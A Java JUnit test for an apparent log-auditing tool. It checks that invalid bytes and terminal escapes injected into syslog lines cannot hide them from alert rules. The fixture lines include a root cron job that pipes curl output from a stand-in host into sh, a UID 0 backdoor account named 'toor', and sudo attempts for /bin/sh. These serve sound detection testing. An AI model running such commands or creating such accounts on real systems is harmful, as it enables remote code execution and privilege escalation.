package dev.logcheck.shipped;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/**
 * Lines that must be raised, with bytes in them that are no text: wherever whoever writes the line
 * can put some, they keep it in its section.
 */
final class HostileBytesTest {
  /** Sections and messages; the hash signs stand where the bytes go. */
  private static final List<String[]> RAISED =
      List.of(
          raised("events su", "I#[7]: FAILED SU (to root) alice on pts/0"),
          raised("events su", "#: FAILED SU (to root) alice on pts/0"),
          raised("events su", "su[7]: FAILED SU (to root) al#ice on pts/0"),
          raised("events su", "su[7]: FAILED SU (to root) alice on pts/0#"),
          raised("events su", "I#[7]: (to root) alice on pts/0"),
          raised("events su", "I#[7]: FAILED su for root by alice"),
          raised("events su", "I#[7]: + pts/0 alice:root"),
          raised("events su", "I#[7]: - pts/0 alice:root"),
          raised(
              "events su",
              "I#: pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0"
                  + " tty=pts/0 ruser=alice rhost=  user=root"),
          raised("alerts su", "I#[7]: FAILED SU (to root) www-data on none"),
          raised(
              "events sudo",
              "I#:    alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
                  + " COMMAND=/bin/sh"),
          raised(
              "events sudo",
              "sudo:    alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/al#ice ; USER=root ;"
                  + " COMMAND=/bin/sh"),
          raised(
              "events sudo",
              "I#:    alice : command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ;"
                  + " COMMAND=/bin/sh"),
          raised("alerts sudo", "sudo: www-data : command not allowed ; PWD=/# ; COMMAND=/bin/sh"),
          raised(
              "alerts accounts",
              "I#[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash"),
          raised(
              "alerts accounts",
              "useradd[7]: new user: name=toor, UID=0, GID=0, home=/ro#ot, shell=/bin/bash#"),
          raised("events accounts", "useradd[7]: new user: name=b#ob, UID=1001#"),
          raised("events accounts", "I#[7]: (alice) REPLACE (alice)"),
          raised("events accounts", "I#: pam_unix(passwd:chauthtok): password changed for alice"),
          raised("alerts cron", "CRON[7]: (root) CMD (/tmp/#)"),
          raised("alerts cron", "CRON[7]: (root) CMD (curl http://192.0.2.7/# | sh)"),
          raised("alerts kernel", "kernel: ptrace attach of \"x#\"[7] was attempted by \"y#\"[8]"),
          raised(
              "alerts kernel", "kernel: usercopy: Kernel memory exposure attempt detected from #"),
          raised("failures storage", "kernel: EXT4-fs error (device sda1): comm x#: bad entry"),
          raised("events systemd", "systemd[1]: Started /tmp/x#"),
          raised("failures space", "x[7]: write error: No space left on device: /srv/#"));

  private static final List<String> BYTES =
      List.of(
          "\u00ff",
          "\u0080",
          "\u00c3",
          "\u00c0\u0080",
          "\u00e2\u0082",
          "\u00ed\u00a0\u0080",
          "\u00f4\u0090\u0080\u0080",
          "\u00fc\u0084\u0080\u0080\u0080",
          "\u00fe\u00ff\u0080",
          "\u00e2\u0080\u00ae",
          "\0",
          "x\ry",
          "\u001b",
          "\u001b[2J",
          "\u007f");

  @Test
  void noByteHidesALineFromTheRulesThatRaise() throws IOException {
    Map<String, String> expected = new TreeMap<>();
    List<String> lines = new ArrayList<>();
    for (String bytes : BYTES) {
      for (String[] raised : RAISED) {
        String line = "Nov 19 00:00:01 web1 " + raised[1].replace("#", bytes);
        expected.put(line, raised[0]);
        lines.add(line);
      }
    }
    LineAudit audit = new LineAudit(ShippedDirectory.SERVER.level());
    assertEquals(expected, audit.reported(lines, ISO_8859_1));
  }

  private static String[] raised(String section, String message) {
    return new String[] {section, message};
  }
}
